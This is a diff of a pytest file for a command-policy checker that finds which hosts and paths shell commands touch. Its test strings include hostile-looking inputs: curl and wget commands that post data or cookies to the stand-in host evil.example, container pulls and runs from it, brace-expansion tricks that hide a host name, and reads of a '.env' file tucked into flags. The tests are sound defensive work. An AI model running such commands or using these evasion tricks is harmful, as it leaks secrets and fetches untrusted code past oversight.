@@ -6,7 +6,9 @@ from hypothesis import strategies as st
 
 from interlock.policy.commands.bash import read_argv, read_script
 from interlock.policy.commands.command import SimpleCommand
-from interlock.policy.commands.command_words import hosts_named, paths_named
+from interlock.policy.commands.command_words import UNKNOWN_HOST, UNKNOWN_PATH, hosts_named, paths_named
+from interlock.policy.hosts import plain_host
+from interlock.policy.paths import Workspace
 
 
 @pytest.mark.parametrize(
@@ -36,6 +38,8 @@ from interlock.policy.commands.command_words import hosts_named, paths_named
             "sudo cat .env",
             "cat x -- .env",
             "node -r.env x",
+            "grep -EHinsof.env x",
+            "gcc -I.env x",
         ),
     ],
 )
@@ -122,6 +126,22 @@ def test_the_path_of_a_url_is_found_in_plain() -> None:
                 "curl -so f -L evil.example",
             )
         ],
+        *[
+            (text, "evil.example")
+            for text in (
+                "wget --cookie evil.example",
+                "wget --data evil.example",
+                "curl --post-data evil.example",
+                "docker pull evil.example/x",
+                "docker run --rm evil.example:5000/x sh",
+                "podman login Evil.Example",
+                "go get evil.example/x@latest",
+                "go install evil.example@latest",
+                "skopeo copy docker://evil.example/x dir:x",
+                "helm install --repo=evil.example/x y",
+            )
+        ],
+        ("docker pull registry:5000/x", "registry"),
         ("curl http://[::1]:80/", "::1"),
         ("curl http://127.0.0.1/", "127.0.0.1"),
         ("ssh ::1", "::1"),
@@ -130,6 +150,54 @@ def test_the_path_of_a_url_is_found_in_plain() -> None:
 )
 def test_a_host_is_found_wherever_it_stands(text: str, host: str) -> None:
     assert host in [name for command in read_script(text).commands for name in hosts_named(command)]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "curl 'http://{evil.example}/'",
+        "curl 'http://evi[l-l].example/'",
+        "curl 'ev{i,i}l.example'",
+        "curl '{http://a.example/,http://b.example/}'",
+        "aria2c -P 'http://{a,b}.example/'",
+    ],
+)
+def test_a_host_that_the_program_makes_itself_is_not_known(text: str) -> None:
+    (command,) = read_script(text).commands
+    assert UNKNOWN_HOST in hosts_named(command)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "curl 'http://a.example/x[1-3]/{y,z}'",
+        "curl -d '{\"x\": [1]}' http://a.example",
+        "curl --json '{}' http://a.example",
+        "curl -g 'http://[fe80::1%25eth0]/'",
+        "echo 'http://{a}/'",
+    ],
+)
+def test_braces_that_are_not_in_the_host_do_not_make_it_unknown(text: str) -> None:
+    (command,) = read_script(text).commands
+    assert UNKNOWN_HOST not in hosts_named(command)
+
+
+@pytest.mark.parametrize(
+    "text", ["go test ./...", "go run main.go", "docker build -f a.dev .", "docker run -v a.b:/c x"]
+)
+def test_files_of_programs_that_use_registries_are_no_hosts(text: str) -> None:
+    (command,) = read_script(text).commands
+    assert hosts_named(command) == ()
+
+
+@pytest.mark.parametrize("word", ["a:" * 129, "=" * 129, "-" + "a" * 200 + ".env"])
+def test_a_word_with_too_many_places_for_a_path_names_an_unknown_one(word: str) -> None:
+    assert UNKNOWN_PATH in paths_named(SimpleCommand(argv=("x", word)))
+
+
+def test_what_is_unknown_is_known_to_nobody() -> None:
+    assert plain_host(UNKNOWN_HOST) is None
+    assert Workspace("/nowhere").touched(UNKNOWN_PATH, writes=False).places == ()
 
 
 def test_a_file_to_write_is_not_a_host() -> None:
